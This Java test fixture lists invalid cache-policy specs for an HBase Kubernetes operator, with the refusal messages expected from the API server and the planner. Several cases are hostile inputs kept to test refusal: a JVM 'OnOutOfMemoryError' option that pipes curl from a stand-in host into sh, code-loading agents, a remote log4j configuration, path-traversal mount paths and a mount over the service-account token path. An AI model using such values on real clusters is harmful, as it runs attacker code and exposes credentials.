package dev.hbase.cache.operator.plan;

import java.util.List;

/**
 * Bad input, one table for every layer that must refuse it: the API server (CRD schema and CEL) and
 * the planner (the {@code plan} command and the operator). A fragment is null where that layer
 * cannot see the problem (the API server knows no memory limit; the planner does not check rollout
 * knobs).
 */
public final class BadPolicies {
  private BadPolicies() {}

  /**
   * @param name what is wrong
   * @param spec the spec body below {@code targetRef} and {@code hbaseSiteConfigMap} (YAML, two
   *     spaces indent), or a full spec when it starts with "!"
   * @param memoryLimit the container limit the planner sees
   * @param apiServer a fragment of the API server's refusal, or null
   * @param planner a fragment of the planner's refusal, or null
   */
  public record Case(
      String name, String spec, String memoryLimit, String apiServer, String planner) {
    @Override
    public String toString() {
      return name;
    }

    /** The whole spec as YAML (two spaces indent below "spec:"). */
    public String specYaml() {
      if (spec.startsWith("!")) {
        return spec.substring(1);
      }
      return "  targetRef:\n    name: hbase-regionserver\n  hbaseSiteConfigMap: hbase-site\n"
          + spec;
    }

    public String document() {
      return "apiVersion: cache.hbase.dev/v1alpha1\nkind: BlockCachePolicy\nmetadata:\n  name: bad\nspec:\n"
          + specYaml();
    }
  }

  public static final List<Case> CASES =
      List.of(
          new Case(
              "mode Heap",
              "  mode: Heap\n",
              "8Gi",
              "no longer exists in HBase 2.x; use Offheap",
              "no longer exists in HBase 2.x; use Offheap"),
          new Case(
              "unknown mode",
              "  mode: Disk\n",
              "8Gi",
              "mode must be one of Lru, Offheap, File, PersistentFile, MetaOnly",
              "allowed are Lru, Offheap, File, PersistentFile, MetaOnly"),
          new Case(
              "no mode",
              "  memory:\n    heap: 2Gi\n",
              "8Gi",
              "spec.mode: Required value",
              "spec.mode is required"),
          new Case(
              "no targetRef",
              "!  hbaseSiteConfigMap: hbase-site\n  mode: Lru\n",
              "8Gi",
              "spec.targetRef: Required value",
              "spec.targetRef.name is required"),
          new Case(
              "no hbaseSiteConfigMap",
              "!  targetRef:\n    name: rs\n  mode: Lru\n",
              "8Gi",
              "spec.hbaseSiteConfigMap: Required value",
              "spec.hbaseSiteConfigMap is required"),
          new Case(
              "targetRef not a DNS name",
              "!  targetRef:\n    name: RS_1\n  hbaseSiteConfigMap: hbase-site\n  mode: Lru\n",
              "8Gi",
              "spec.targetRef.name: Invalid value",
              null),
          new Case(
              "fractions above 0.8",
              "  mode: Lru\n  memory:\n    blockCacheFraction: 0.45\n    memstoreFraction: 0.4\n",
              "8Gi",
              "must be at most 0.8",
              "= 0.85 exceeds 0.8"),
          new Case(
              "fraction with default above 0.8",
              "  mode: Lru\n  memory:\n    blockCacheFraction: 0.5\n",
              "8Gi",
              null,
              "memory.memstoreFraction 0.4 (default) = 0.9 exceeds 0.8"),
          new Case(
              "blockCacheFraction too large",
              "  mode: Lru\n  memory:\n    blockCacheFraction: 0.9\n",
              "8Gi",
              "spec.memory.blockCacheFraction: Invalid value",
              "between 0.01 and 0.8"),
          new Case(
              "memstoreFraction too small",
              "  mode: Lru\n  memory:\n    memstoreFraction: 0.01\n",
              "8Gi",
              "spec.memory.memstoreFraction: Invalid value",
              "between 0.05 and 0.8"),
          new Case(
              "storage.size an extra digit (200Gi for a 2Gi L2): PVCs cannot shrink",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 2Gi\n  storage:\n    size: 200Gi\n",
              "8Gi",
              null,
              "a PVC cannot shrink, so a typo (an extra digit, Gi for Mi) would be permanent;"
                  + " set storage.size to at most 24Gi"),
          new Case(
              "storage in Lru mode",
              "  mode: Lru\n  storage:\n    size: 10Gi\n",
              "8Gi",
              "storage applies only to modes with a cache file",
              "storage applies only to modes with a cache file"),
          new Case(
              "storage in Offheap mode",
              "  mode: Offheap\n  storage:\n    size: 10Gi\n",
              "8Gi",
              "storage applies only to modes with a cache file",
              "storage applies only to modes with a cache file"),
          new Case(
              "tmpfs for PersistentFile",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 1Gi\n  storage:\n    medium: Memory\n",
              "8Gi",
              "storage.medium Memory (tmpfs) is allowed only in File mode",
              "storage.medium Memory (tmpfs) is allowed only in File mode"),
          new Case(
              "unknown medium",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n    medium: Disk\n",
              "8Gi",
              "storage.medium must be \"\" (a PVC) or \"Memory\"",
              "storage.medium must be \"\" (a PVC) or \"Memory\""),
          new Case(
              "bucketCache in Lru mode",
              "  mode: Lru\n  memory:\n    bucketCache: 1Gi\n",
              "8Gi",
              "memory.bucketCache is the L2 BucketCache size",
              "memory.bucketCache is the L2 BucketCache size"),
          new Case(
              "bucketCache in MetaOnly mode",
              "  mode: MetaOnly\n  memory:\n    bucketCache: 1Gi\n",
              "8Gi",
              "memory.bucketCache is the L2 BucketCache size",
              "memory.bucketCache is the L2 BucketCache size"),
          new Case(
              "File without a size",
              "  mode: File\n",
              "8Gi",
              "File and PersistentFile modes need the L2 size",
              "needs the L2 size"),
          new Case(
              "PersistentFile without a size",
              "  mode: PersistentFile\n  storage:\n    storageClassName: fast\n",
              "8Gi",
              "File and PersistentFile modes need the L2 size",
              "needs the L2 size"),
          new Case(
              "bucket size not a multiple of 256",
              "  mode: Offheap\n  tuning:\n    bucketSizes: [5120, 9000]\n",
              "8Gi",
              "each size must be a positive multiple of 256",
              "each size must be a positive multiple of 256"),
          new Case(
              "bucket sizes descending",
              "  mode: Offheap\n  tuning:\n    bucketSizes: [9216, 5120]\n",
              "8Gi",
              "must be strictly ascending",
              "must be strictly ascending"),
          new Case(
              "bucket sizes repeated",
              "  mode: Offheap\n  tuning:\n    bucketSizes: [5120, 5120, 9216]\n",
              "8Gi",
              "must be strictly ascending",
              "must be strictly ascending"),
          new Case(
              "L2 tuning in Lru mode",
              "  mode: Lru\n  tuning:\n    writerThreads: 4\n",
              "8Gi",
              "tune the L2",
              "tune the L2"),
          new Case(
              "persist interval without persistence",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  tuning:\n    persistIntervalMillis: 500\n",
              "8Gi",
              "applies only to PersistentFile mode",
              "applies only to PersistentFile mode"),
          new Case(
              "relative mountPath",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n    mountPath: cache\n",
              "8Gi",
              "storage.mountPath must be an absolute path",
              "storage.mountPath must be an absolute path"),
          new Case(
              "mountPath with ..",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n    mountPath: /var/../etc\n",
              "8Gi",
              "storage.mountPath must be an absolute path",
              "storage.mountPath must be an absolute path"),
          new Case(
              "-Xmx in extraOptions",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-Xmx8g\"]\n",
              "8Gi",
              "must not set what the planner sizes",
              "sets what the planner sizes"),
          new Case(
              "two options in one extraOptions item",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-Dx=1 -Xmx64g\"]\n",
              "8Gi",
              "each jvm.extraOptions item must be one JVM option",
              "must be one JVM option"),
          new Case(
              "extraOptions item not an option",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"Xmx64g\"]\n",
              "8Gi",
              "each jvm.extraOptions item must be one JVM option",
              "must be one JVM option"),
          // the API server cannot know whether the operator allows agents (its chart's value)
          new Case(
              "a Java agent in extraOptions",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-javaagent:/tmp/a.jar\"]\n",
              "8Gi",
              null,
              "loads code into every RegionServer"),
          new Case(
              "boot class path in extraOptions",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-Xbootclasspath/a:/tmp/x.jar\"]\n",
              "8Gi",
              null,
              "loads code into every RegionServer"),
          // issue 25: what the old deny-list let through
          new Case(
              "-XX:OnOutOfMemoryError with ${IFS} for spaces",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:OnOutOfMemoryError=curl${IFS}evil|sh\"]\n",
              "8Gi",
              "must be one JVM option",
              "must be one JVM option"),
          new Case(
              "-XX:OnError runs a command",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:OnError=/tmp/x.sh\"]\n",
              "8Gi",
              null,
              "-XX:OnError is none of the collector, JIT, metaspace and thread flags"),
          new Case(
              "-XX:MaxHeapSize overrides the plan",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:MaxHeapSize=64g\"]\n",
              "8Gi",
              "must not set what the planner sizes",
              "sets what the planner sizes"),
          new Case(
              "-Dsun.nio.MaxDirectMemorySize overrides the plan",
              "  mode: Offheap\n  memory:\n    bucketCache: 1Gi\n  jvm:\n    extraOptions:"
                  + " [\"-Dsun.nio.MaxDirectMemorySize=64g\"]\n",
              "8Gi",
              "must not set what the planner sizes",
              "sets what the planner sizes"),
          new Case(
              "-Xlog to a file over the cache map",
              "  mode: Lru\n  jvm:\n    extraOptions:"
                  + " [\"-Xlog:gc:file=/var/lib/hbase/bucketcache/bucketcache.map\"]\n",
              "8Gi",
              null,
              "-Xlog may log to stdout or stderr only"),
          new Case(
              "-XX:HeapDumpPath writes a file anywhere",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:HeapDumpPath=/var/lib/hbase/x\"]\n",
              "8Gi",
              null,
              "-XX:HeapDumpPath is none of the collector"),
          new Case(
              "a JDK system property",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-Dcom.sun.management.jmxremote.port=9010\"]\n",
              "8Gi",
              null,
              "the system properties it allows are"),
          new Case(
              "log4j2's configuration from a URL, in its case-insensitive spelling",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-DLOG4J2_CONFIGURATION_FILE=https://x/l.xml\"]\n",
              "8Gi",
              null,
              "the system properties it allows are"),
          new Case(
              "Netty's own direct-memory limit",
              "  mode: Lru\n  jvm:\n    extraOptions:"
                  + " [\"-Dorg.apache.hbase.thirdparty.io.netty.maxDirectMemory=68719476736\"]\n",
              "8Gi",
              null,
              "the system properties it allows are"),
          new Case(
              "options from a file",
              "  mode: Lru\n  jvm:\n    extraOptions: [\"-XX:Flags=/tmp/flags\"]\n",
              "8Gi",
              null,
              "-XX:Flags is none of the collector"),
          new Case(
              "mountPath with a comma",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 1Gi\n  storage:\n"
                  + "    mountPath: /cache,/etc/hbase/conf\n",
              "8Gi",
              "storage.mountPath may hold letters, digits and _ . / - only",
              "storage.mountPath may hold letters, digits and _ . / - only"),
          new Case(
              "mountPath //etc (a system directory once the runtime cleans it)",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n    mountPath: //etc\n",
              "8Gi",
              "storage.mountPath must be an absolute path",
              "storage.mountPath must be an absolute path"),
          new Case(
              "mountPath /./etc",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n    mountPath: /./etc/x\n",
              "8Gi",
              "storage.mountPath must be an absolute path",
              "storage.mountPath must be an absolute path"),
          new Case(
              "mountPath under the service account token",
              "  mode: File\n  memory:\n    bucketCache: 1Gi\n  storage:\n"
                  + "    mountPath: /var/run/secrets/kubernetes.io\n",
              "8Gi",
              "storage.mountPath must not be or lie under a system directory",
              "storage.mountPath must not be or lie under a system directory"),
          new Case(
              "unknown GC",
              "  mode: Lru\n  jvm:\n    gc: CMS\n",
              "8Gi",
              "Unsupported value: \"CMS\"",
              "\"CMS\""),
          new Case(
              "heap below 512Mi",
              "  mode: Lru\n  memory:\n    heap: 256Mi\n",
              "8Gi",
              "memory.heap must be a quantity of at least 512Mi",
              "below the 512Mi a RegionServer needs"),
          new Case(
              "heap not a quantity",
              "  mode: Lru\n  memory:\n    heap: lots\n",
              "8Gi",
              "memory.heap must be a quantity",
              "lots"),
          new Case(
              "negative overhead",
              "  mode: Lru\n  memory:\n    overhead: -1Gi\n",
              "8Gi",
              "memory.overhead must be a non-negative quantity",
              null),
          new Case(
              "metrics interval below 10s",
              "  mode: Lru\n  metrics:\n    interval: 1s\n",
              "8Gi",
              "metrics.interval must be between 10s and 1h",
              null),
          new Case(
              "metrics interval not a duration",
              "  mode: Lru\n  metrics:\n    interval: often\n",
              "8Gi",
              "spec.metrics.interval: Invalid value",
              null),
          new Case(
              "maxUnavailable 0",
              "  mode: Lru\n  rollout:\n    maxUnavailable: 0\n",
              "8Gi",
              "spec.rollout.maxUnavailable: Invalid value",
              null),
          new Case(
              "unknown rollout strategy",
              "  mode: Lru\n  rollout:\n    strategy: AllAtOnce\n",
              "8Gi",
              "Unsupported value: \"AllAtOnce\"",
              "\"AllAtOnce\""),
          new Case(
              "podReadyTimeout too short",
              "  mode: Lru\n  rollout:\n    podReadyTimeout: 5s\n",
              "8Gi",
              "rollout.podReadyTimeout must be between 30s and 24h",
              null),
          new Case(
              "retained fraction above 1",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 1Gi\n  rollout:\n    warmGate:\n      minRetainedFraction: 1.5\n",
              "8Gi",
              "spec.rollout.warmGate.minRetainedFraction: Invalid value",
              null),
          new Case(
              "info port out of range",
              "  mode: Lru\n  hbase:\n    infoPort: 70000\n",
              "8Gi",
              "spec.hbase.infoPort: Invalid value",
              null),
          new Case(
              "relative znode parent",
              "  mode: Lru\n  hbase:\n    zookeeperZnodeParent: hbase\n",
              "8Gi",
              "must be an absolute znode path",
              null),
          new Case(
              "unknown field",
              "  mode: Lru\n  memroy:\n    heap: 4Gi\n",
              "8Gi",
              null,
              "unknown field \"memroy\""),
          // Only the planner sees the memory limit.
          new Case(
              "heap larger than the limit",
              "  mode: Lru\n  memory:\n    heap: 8Gi\n",
              "4Gi",
              null,
              "memory limit 4Gi is too small: heap 8Gi"),
          new Case(
              "off-heap L2 larger than the limit",
              "  mode: Offheap\n  memory:\n    bucketCache: 8Gi\n",
              "4Gi",
              null,
              "leaves only 0B for the heap"),
          new Case(
              "tmpfs L2 larger than the limit",
              "  mode: File\n  memory:\n    bucketCache: 6Gi\n  storage:\n    medium: Memory\n",
              "4Gi",
              null,
              "tmpfs L2 6Gi"),
          new Case(
              "PVC too small for the L2",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 10Gi\n  storage:\n    size: 10Gi\n",
              "8Gi",
              null,
              "storage.size 10Gi cannot hold an L2 of 10Gi plus 1Gi"),
          new Case(
              "L2 below the allocator's minimum",
              "  mode: Offheap\n  memory:\n    bucketCache: 16Mi\n",
              "8Gi",
              null,
              "BucketAllocator needs room"),
          new Case(
              "an HBase line the operator does not know",
              "  mode: Lru\n  hbase:\n    version: 2.4.18\n",
              "8Gi",
              "hbase.version must name an HBase 2.5 or 2.6 release",
              "hbase.version \"2.4.18\" is not a line this operator knows"),
          new Case(
              "PersistentFile on HBase 2.5",
              "  mode: PersistentFile\n  memory:\n    bucketCache: 2Gi\n"
                  + "  hbase:\n    version: 2.5.13\n",
              "8Gi",
              null,
              "mode PersistentFile: HBase 2.5's BucketCache does not write its persistence map"),
          new Case("no memory limit", "  mode: Lru\n", null, null, "has no memory limit"));
}
